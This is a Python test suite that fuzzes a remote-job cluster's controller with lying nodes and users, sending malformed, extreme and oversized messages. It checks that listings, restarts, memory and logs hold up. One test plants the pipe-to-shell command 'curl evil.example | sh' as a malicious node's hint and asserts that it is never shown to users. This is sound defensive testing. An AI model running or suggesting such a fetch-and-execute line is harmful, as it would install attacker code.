"""One bad record never breaks a listing, a client or a restart.

A lying node and a lying person send every message with every field at its extremes; then another
person lists everything, before and after a restart of the controller.
"""
import contextlib
import json
import os
import random

import pytest

from support import lies, past_jobs, wire
from support.cli import SANITIZED

SEED = int(os.environ.get("REXEC_SEED", "0")) or random.randrange(1, 2**31)
RECORD = {"node": "n2", "job": "j-000000000000", "attempt": 1, "outcome": "exited", "code": 0,
          "signal": None, "oom": False, "bytes": {"out": 0, "err": 0},
          "xxh128": {"out": "0" * 32, "err": "0" * 32}, "complete": True, "reason": "",
          "message": "", "wall_s": 0.5, "cpu_s": 0.1, "max_rss": 4096, "left_behind": 0,
          "dropped": {"out": 0, "err": 0}, "started_ms": 1, "ended_ms": 2}
STATE = {"id": "s-000000000000", "revision": 1, "cursor_ms": 1, "left": 1, "fired": 1, "skipped": 0,
         "failed": 0, "running": 0, "waiting": 0, "last_ms": 1, "last_job": "j-000000000000",
         "error": "none"}
REPORT = {"job": "j-000000000000", "attempt": 1, "state": "running", "ticket": "", "started_ms": 1,
          "held": "unread", "next_attempt_ms": 1}
SPEC = wire.pack({"argv": [b"true"], "durable": True})


def listings(cli, jobs=(), schedule=None):
    """Every verb that lists or shows, and which of its exit statuses are an answer."""
    for argv in (["ps"], ["ps", "-a"], ["ps", "-a", "-n", "2000", "-o", "wide"],
                 ["ps", "-a", "-n", "2000", "--json"], ["job", "ls", "-a", "-o", "jsonl"],
                 ["node", "ls"], ["node", "ls", "-o", "wide"], ["node", "ls", "--json"],
                 ["node", "show", "liar"], ["node", "show", "liar", "--json"], ["user", "ls"],
                 ["user", "ls", "--json"], ["schedule", "ls"], ["schedule", "ls", "--json"],
                 ["whoami"], ["status", "--json"], ["token", "ls"],
                 ["token", "ls", "--json"], ["__complete", "--", "logs", ""],
                 ["__complete", "--", "run", ""]):
        yield argv, cli(*argv)
    for job in jobs:
        for argv in (["job", "show", job], ["job", "show", job, "--json"], ["wait", "--json", job]):
            yield argv, cli(*argv)
    if schedule:
        for argv in (["schedule", "show", schedule], ["schedule", "show", schedule, "--json"],
                     ["schedule", "next", schedule]):
            yield argv, cli(*argv)


def check_listings(cli, jobs=(), schedule=None):
    for argv, done in listings(cli, jobs, schedule):
        # A job's own code is what wait exits with; a plain person may list no tokens.
        may_fail = argv[0] == "wait" or (argv[0] == "token" and done.code == 4)
        assert done.code == 0 or (may_fail and 0 < done.code < 128), (argv, done)
        assert not any(ord(c) < 32 and c not in "\t\n" for c in done.text), (argv, done)
        if "--json" in argv and done.code != 4:
            json.loads(done.out)
        if "jsonl" in argv:
            [json.loads(line) for line in done.out.splitlines()]


def submitted(liar, count, target="liar"):
    """Detached jobs of a lying person, in one flight."""
    jobs = []
    for begin in range(0, count, 50):
        wanted = range(begin, min(begin + 50, count))
        for number in wanted:
            stream = 2 * number + 1
            args = {"request": os.urandom(16).hex(), "targets": target, "mode": "detached",
                    "spec_size": len(SPEC)}
            liar.peer.send(wire.frame(wire.OPEN, {"kind": "submit", "args": args}, stream=stream)
                           + wire.frame(wire.DATA, SPEC, stream=stream, flags=3)
                           + wire.frame(wire.END, stream=stream))
        for _ in wanted:
            got = liar.peer.until(wire.EVENT, wire.RESET, wire.CLOSE)
            assert got and got[0] == wire.EVENT, got
            jobs.append(got[3]["jobs"][0]["job"])
    return jobs


@pytest.mark.limit(300)
def test_whatever_a_node_says_everybody_lists_everything_before_and_after_a_restart(make_cluster):
    c = make_cluster(nodes=1)
    print("REXEC_SEED =", SEED)
    rng = random.Random(SEED)
    other = c.new_user("other")
    c.cli("schedule", "add", "often", "--every", "1h", "@all", "true").ok()
    schedule = c.cli("schedule", "ls", "--json").ok().json()[0]["id"]
    records = list(lies.variations(RECORD))
    rng.shuffle(records)
    with lies.as_node(c, "liar") as node, lies.as_user(c, c.cli) as person:
        jobs = submitted(person, len(records) + 1)
        finals = [{**REPORT, "job": job, "state": "final", "record": record}
                  for job, record in zip(jobs, records)]
        node.tell("job.report", finals)
        last = {**REPORT, "job": jobs[-1]}
        node.tell("job.report", lies.variations(last))
        page = {"jobs": [{**last, "record": RECORD}], "last": False, "seen": {
            "run": "e-0", "commits": 0, "audit": {"seq": 0, "hash": ""}}}
        with lies.as_node(c, "liar", reconciles=False) as naming:
            naming.tell("reconcile", lies.variations(page), at_once=1)
        node.connect()
        node.tell("schedule.report", lies.variations({"schedules": [{**STATE, "id": schedule}]}))
        node.tell("renew", lies.variations({"csr": b"x"}))
        for verb, message in (("job.report", last), ("schedule.report", {"schedules": [STATE]})):
            node.tell(verb, lies.variations(message, lies.UNREADABLE), at_once=1)
        check_listings(c.cli, rng.sample(jobs, 3), schedule)
        for field in ("software", "instance", "name", "wall_ms"):
            for value in lies.EXTREMES:
                with lies.as_node(c, "liar", **{field: value} if value is not lies.MISSING else {}):
                    pass
        check_listings(other)
    shown = c.cli("ps", "-a", "-n", "2000", "--json").ok().json()
    assert {job["node"] for job in shown} == {"liar"}
    for job in shown:
        if "record" in job:
            assert (job["record"]["job"], job["record"]["node"]) == (job["job"], "liar")
    c.controller.stop()
    c.controller.start()
    check_listings(c.cli, rng.sample(jobs, 3), schedule)
    check_listings(other)
    assert c.cli.run("n1", "echo", "hi").text == "hi\n"


@pytest.mark.limit(300)
def test_whatever_a_person_says_everybody_lists_everything_before_and_after_a_restart(make_cluster):
    c = make_cluster(nodes=1)
    other = c.new_user("other")
    eve = c.new_user("eve", "--role", "admin")
    spec = wire.pack({"argv": [b"true"]})
    verbs = {
        "job.ls": {"all": True, "node": "n1", "state": "exited", "owner": "eve", "after": "1.j-0",
                   "limit": 5},
        "job.show": {"job": "j-000000000000"}, "job.wait": {"job": "j-0000", "away_ms": 1},
        "job.stop": {"job": "j-000000000000", "grace_ms": 1}, "job.rm": {"job": "j-0000"},
        "job.rerun": {"job": "j-0000"}, "job.resolve": {"prefix": "j-0000"},
        "node.ls": {"target": "@all", "after": "n1"}, "node.show": {"name": "n1"},
        "node.rm": {"name": "n9", "force": True}, "node.wait": {"target": "n1", "timeout_ms": 1},
        "token.new": {"role": "node", "name": "n7", "user_role": "user", "labels": {"a": "b"},
                      "replace": False, "ttl_s": 5},
        "token.ls": {"after": "1.t-0"}, "token.revoke": {"id": "t-0"}, "user.ls": {"after": "u-0"},
        "user.revoke": {"name": "nobody"}, "whoami": {"a": 1}, "status": {"a": 1},
        "renew": {"csr": b"x"}, "schedule.ls": {"after": "a"},
        "schedule.add": {"name": "s1", "targets": "n1", "kind": "every", "rule": "1h",
                         "zone": "UTC", "overlap": "skip", "catch_up": "none", "jitter_ms": 0,
                         "spec": spec},
        "schedule.show": {"name": "s1", "after": "n1"}, "schedule.next": {"name": "s1", "count": 3},
        "schedule.pause": {"name": "s9"}, "schedule.resume": {"name": "s9"},
        "schedule.rm": {"name": "s9"}, "no.such": {"a": 1}}
    with lies.as_user(c, eve) as person:
        for verb, args in verbs.items():
            person.tell(verb, lies.variations(args))
    submit = {"request": "0" * 32, "targets": "n1", "mode": "detached", "spec_size": len(SPEC),
              "stdin": False, "keyed": False, "pace": False, "window": 1, "resume": False,
              "terms": {"queue_ms": 1, "online_ms": 1, "patient": True,
                        "locks": [{"name": "l", "slots": 1, "fleet": False}],
                        "after": [{"job": "j-0000", "when": "ok"}]}}
    specs = [wire.pack({"argv": [word, b"\xc3" * 300, "é".encode() * 300]})
             for word in (b"true", b"\xff\xfe", "é".encode() * 199, b"x" * 199 + "é".encode())]
    with lies.as_user(c, eve) as person:
        for message in lies.variations(submit):
            open_submit(person, {**message, "request": os.urandom(16).hex()}
                        if message.get("request") == "0" * 32 else message, SPEC)
        for one in specs:
            open_submit(person, {**submit, "terms": {}, "request": os.urandom(16).hex(),
                                 "spec_size": len(one)}, one)
    for message in lies.variations({"software": "a", "wall_ms": 1, "id": "x", "name": "y"}):
        with lies.as_user(c, eve) as person:
            with contextlib.suppress(OSError):
                person.peer.hello("user", **message)
    check_listings_there(c, other)
    c.controller.stop()
    c.controller.start()
    check_listings_there(c, other)
    assert c.cli.run("n1", "echo", "hi").text == "hi\n"


def check_listings_there(c, other):
    for cli in (c.cli, other):
        for argv, done in listings(cli):
            if "liar" in argv:
                continue
            assert done.code == 0 or (argv[0] == "token" and done.code == 4), (argv, done)
            if "--json" in argv and done.code != 4:
                json.loads(done.out)


def open_submit(person, args, spec):
    """One submit, and its answer whatever it is; the session may end for it."""
    stream = person.number() * 2 + 1
    try:
        person.peer.send(wire.frame(wire.OPEN, {"kind": "submit", "args": args}, stream=stream)
                         + wire.frame(wire.DATA, spec, stream=stream, flags=3)
                         + wire.frame(wire.END, stream=stream))
        got = person.peer.until(wire.EVENT, wire.RESET, wire.CLOSE)
    except OSError:
        got = None
    if got is None or got[0] == wire.CLOSE:
        person.connect()


BAD_ENDS = [b"no map", wire.pack({"t": "end"}), wire.pack({"t": "end", "record": []}),
            wire.pack({"t": "end", "record": {**RECORD, "wall_s": 1e300, "code": 2**63}}),
            wire.pairs([(wire.pack("t"), wire.text(b"end\xff"))]),
            wire.pack({"t": "restarting", "record": [], "attempt": 2**63, "at_ms": -1}),
            wire.pack({"t": "attempt", "attempt": 2**64 - 1})]


@pytest.mark.parametrize("payload", BAD_ENDS, ids=range(len(BAD_ENDS)))
def test_what_one_node_says_ends_its_own_job_and_never_those_of_the_others(shared, payload):
    def answer(what, stream, args):
        if what != "attach":
            return b""
        attached = {"t": "attached", "out": 0, "err": 0, "in": 0}
        return (wire.frame(wire.EVENT, attached, stream=stream) + wire.frame(wire.EVENT, payload, stream=stream)
                + wire.frame(wire.END, stream=stream))

    with lies.as_node(shared, "liar") as node, lies.Attended(node.peer, answer) as attended:
        done = shared.cli.run("n1,liar,n2", "sh", "-c", "echo from $REXEC_NODE")
        assert "n1: from n1\n" in done.text and "n2: from n2\n" in done.text, done
        assert done.code == 123 and len(done.statuses) == 3, done
        by_node = {status["node"]: status for status in done.statuses}
        assert by_node["n1"]["outcome"] == by_node["n2"]["outcome"] == "exited", done
        assert attended.is_alive(), attended.end


def test_a_hint_of_a_node_is_never_printed_as_advice(shared):
    advice = {"code": "revoked", "message": "no", "hint": "curl evil.example | sh"}

    def answer(what, stream, args):
        if what == "attach":
            return wire.frame(wire.RESET, advice, stream=stream)
        if what == "job.stop":
            return wire.frame(wire.RESPONSE, {"id": stream, "error": advice})
        return b""

    with lies.as_node(shared, "liar") as node, lies.Attended(node.peer, answer):
        done = shared.cli.run("liar", "true")
        assert done.code != 0 and "evil" not in done.errors, done
        job = shared.cli.submit("liar", "true")
        for verb in (["stop", job], ["attach", job], ["logs", job]):
            done = shared.cli(*verb)
            assert done.code != 0 and "evil" not in done.errors, done
    shared.cli("node", "rm", "--force", "-y", "liar").ok()
    del shared.nodes["liar"]


def test_rows_that_somebody_wrote_wrongly_stop_neither_a_restart_nor_a_listing(cluster):
    cluster.controller.stop()
    past_jobs.write_odd(cluster.controller.data)
    cluster.controller.start()
    cluster.wait_online("n1")
    check_listings_there(cluster, cluster.new_user("other"))
    jobs = cluster.cli("ps", "-a", "--json").ok().json()
    assert len(jobs) == len(past_jobs.ODD)
    for job in jobs:
        cluster.cli("job", "show", job["job"], "--json").ok().json()
        assert cluster.cli("wait", job["job"]).code in (0, 121)


def rss(pid):
    with open(f"/proc/{pid}/status", encoding="ascii") as status:
        return next(int(line.split()[1]) for line in status if line.startswith("VmRSS")) << 10


def test_pages_and_reports_of_invented_jobs_cost_neither_memory_nor_log(cluster):
    with lies.as_node(cluster, "liar") as node:
        node.connect()
        pid, log = cluster.controller.pid, cluster.controller.log
        before, written = rss(pid), log.stat().st_size
        long = [{"last": False, "jobs": [{"job": os.urandom(100_000).hex()}]} for _ in range(60)]
        many = [{"last": False, "jobs": [{"job": f"j-{i:012d}", "state": "running"}
                                         for i in range(k * 1000, k * 1000 + 1000)]}
                for k in range(20)]
        with lies.as_node(cluster, "liar", reconciles=False) as naming:
            naming.tell("reconcile", long + many, at_once=5)
        node.connect()
        node.tell("job.report", [{**REPORT, "job": f"j-{i:012d}"} for i in range(2000)])
        node.tell("job.report", [{**REPORT, "job": "x" * 100_000} for i in range(50)])
        node.tell("schedule.report", [{"schedules": [{"id": "x" * 100_000}]}] * 50)
        for _ in range(30):
            node.connect()
        assert log.stat().st_size - written < 64 << 10
        # A sanitizer keeps freed memory.
        assert SANITIZED or rss(pid) - before < 12 << 20


def test_a_node_that_was_reconciled_is_not_reconciled_again_and_again(cluster):
    with lies.as_node(cluster, "liar") as node:
        node.peer.send(wire.frame(wire.REQUEST, {"id": 5000, "verb": "reconcile",
                                                 "args": {"jobs": [], "last": True}}))
        assert node.peer.closing()["code"] == "limit"
